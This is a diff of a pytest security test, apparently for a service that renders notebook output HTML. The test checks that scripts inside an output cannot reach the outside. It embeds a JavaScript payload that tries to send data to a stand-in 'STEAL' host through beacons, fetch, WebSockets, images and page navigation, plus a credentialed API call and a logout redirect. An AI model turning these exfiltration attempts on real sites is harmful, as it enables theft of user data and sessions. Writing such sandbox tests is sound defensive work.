@@ -8,6 +8,7 @@ import socket
 import subprocess
 import uuid
 from collections.abc import Callable, Iterator
+from contextlib import suppress
 from dataclasses import replace
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
@@ -55,11 +56,6 @@ attempt("alert", () => alert("hello"));
 attempt("beacon", () => navigator.sendBeacon("STEAL?beacon", "x"));
 attempt("leave top", () => { top.location = "STEAL?top"; });
 attempt("socket", () => { new WebSocket("STEAL?socket".replace("http", "ws")); });
-attempt("webrtc", () => {
-  const peer = new RTCPeerConnection({ iceServers: [{ urls: "STUN" }] });
-  peer.createDataChannel("x");
-  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
-});
 attempt("worker", () => { new Worker("data:text/javascript,1"); });
 new Image().src = "STEAL?image";
 const frame = document.createElement("iframe");
@@ -75,7 +71,6 @@ document.head.append(script);
   await later("fetch", () => fetch("STEAL?fetch", { mode: "no-cors" }));
   await later("api", () => fetch("API", { credentials: "include" }));
   document.getElementById("report").textContent = JSON.stringify(said);
-  setTimeout(() => { LEAVE }, 500);
 })();
 </script>
 """
@@ -109,16 +104,11 @@ def open_page(
 
 
 @pytest.fixture
-def listeners() -> Iterator[tuple[socket.socket, socket.socket]]:
-    """Return what an attacker listens with: connections, and packets at the same port."""
-    with (
-        socket.create_server(("127.0.0.1", 0)) as connections,
-        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as packets,
-    ):
-        packets.bind(connections.getsockname())
-        connections.setblocking(False)
-        packets.setblocking(False)
-        yield connections, packets
+def attacker() -> Iterator[socket.socket]:
+    """Return what an attacker listens with."""
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        server.setblocking(False)
+        yield server
 
 
 @pytest.fixture
@@ -131,13 +121,25 @@ def at(key: RunKey, part: str = "") -> str:
     return f"{path}{part}?{query}"
 
 
+def heard(server: socket.socket) -> list[bytes]:
+    """Return what was sent to an attacker; a browser opens connections in advance, and sends nothing."""
+    found = []
+    with suppress(BlockingIOError):
+        while True:
+            connection, _ = server.accept()
+            with connection, suppress(TimeoutError):
+                connection.settimeout(1)
+                found.append(connection.recv(1000))
+    return [each for each in found if each]
+
+
 @pytest.mark.parametrize(
     ("part", "leave"),
     [
         ("", ""),
         ("/frame", ""),  # whoever opens it in a tab is led to the page around it
-        ("/output", "location = 'STEAL?leave'"),
-        ("/output", "location = 'LOGOUT'"),
+        ("/output", "STEAL?leave"),
+        ("/output", "API/auth/logout"),
     ],
 )
 def test_no_script_of_an_output_gets_out(
@@ -146,13 +148,12 @@ def test_no_script_of_an_output_gets_out(
     api_server: ApiServer,
     store: Store,
     key: RunKey,
-    listeners: tuple[socket.socket, socket.socket],
+    attacker: socket.socket,
     open_page: Callable[..., Page],
 ) -> None:
-    port = listeners[0].getsockname()[1]
-    attack = ATTACK.replace("LEAVE", leave).replace("STEAL", f"http://127.0.0.1:{port}/")
-    attack = attack.replace("STUN", f"stun:127.0.0.1:{port}").replace("API", f"{api_server.url}/api/runs/")
-    attack = attack.replace("LOGOUT", f"{api_server.url}/auth/logout")
+    port = attacker.getsockname()[1]
+    attack = ATTACK.replace("STEAL", f"http://127.0.0.1:{port}/")
+    attack = attack.replace("API", f"{api_server.url}/api/runs/")
     ended(store, key, {outputs.NOTEBOOK: notebook(), outputs.HTML: f"<h1>Report</h1>{attack}".encode()})
     page = open_page(("/../api" if part == "/frame" else "") + at(key, part))
     here = page.url
@@ -170,13 +171,12 @@ def test_no_script_of_an_output_gets_out(
         assert said[name] == "TypeError", name
     assert said["popup"] == "null"
     if leave:
+        target = leave.replace("STEAL", f"http://127.0.0.1:{port}/").replace("API", api_server.url)
+        page.frames[1].evaluate("target => { setTimeout(() => { location = target; }); }", target)
         expect(report).to_have_count(0)  # it has gone, but not far
     for _ in range(3):  # what it has begun has had its time then
         assert page.evaluate("fetch('').then(answer => answer.status)") == 200
-    with pytest.raises(BlockingIOError):
-        listeners[0].accept()
-    with pytest.raises(BlockingIOError):
-        listeners[1].recv(1)
+    assert heard(attacker) == []
     assert (page.url, page.title(), len(page.context.pages)) == (here, title, 1)
     assert "_token" in [each["name"] for each in page.context.cookies()]
 
